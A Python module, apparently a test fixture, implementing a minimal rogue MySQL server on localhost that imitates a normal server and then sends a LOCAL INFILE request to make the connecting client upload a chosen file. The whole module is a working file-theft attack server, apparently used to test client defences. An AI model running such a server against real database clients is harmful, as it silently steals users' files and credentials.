"""A server that speaks just enough of MySQL's protocol to ask its client for a file."""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field

_PROTOCOL_41, _SECURE, _PLUGIN, _LOCAL_FILES = 0x200, 0x8000, 0x80000, 0x80
_OK = b"\x00\x00\x00\x02\x00\x00\x00"


@dataclass
class Rogue:
    """What it was sent after it asked for the file."""

    port: int
    asked: threading.Event = field(default_factory=threading.Event)
    received: bytes = b""


@contextlib.contextmanager
def rogue_server(path: str, *, innocent: int) -> Iterator[Rogue]:
    """It answers so many statements as a good server does, and the next one by asking for a file."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        rogue = Rogue(listener.getsockname()[1])
        listener.settimeout(10)
        thread = threading.Thread(target=_serve, args=(listener, rogue, path.encode(), innocent))
        thread.start()
        try:
            yield rogue
        finally:
            thread.join()


def _serve(listener: socket.socket, rogue: Rogue, path: bytes, innocent: int) -> None:
    with contextlib.suppress(OSError), listener.accept()[0] as line:
        line.settimeout(3)
        capabilities = 0x0FFFFFFF & ~0x800  # Everything but encryption.
        greeting = b"\x0a8.0.30\x00" + struct.pack("<I", 7) + b"12345678\x00"
        greeting += struct.pack("<HBHH", capabilities & 0xFFFF, 45, 2, capabilities >> 16)
        greeting += b"\x15" + b"\x00" * 10 + b"123456789012\x00" + b"mysql_native_password\x00"
        _send(line, 0, greeting)
        _receive(line)
        _send(line, 2, _OK)
        for _ in range(innocent):
            _receive(line)
            _send(line, 1, _OK)
        _receive(line)
        _send(line, 1, b"\xfb" + path)
        rogue.asked.set()
        with contextlib.suppress(TimeoutError, OSError):
            while part := line.recv(65_536):
                rogue.received += part
                if len(rogue.received) <= 4:
                    _send(line, 3, _OK)


def _send(line: socket.socket, number: int, payload: bytes) -> None:
    line.sendall(struct.pack("<I", len(payload))[:3] + bytes([number]) + payload)


def _receive(line: socket.socket) -> bytes:
    head = b""
    while len(head) < 4:
        part = line.recv(4 - len(head))
        if not part:
            raise OSError("closed")
        head += part
    size, payload = struct.unpack("<I", head[:3] + b"\0")[0], b""
    while len(payload) < size:
        payload += line.recv(size - len(payload))
    return payload
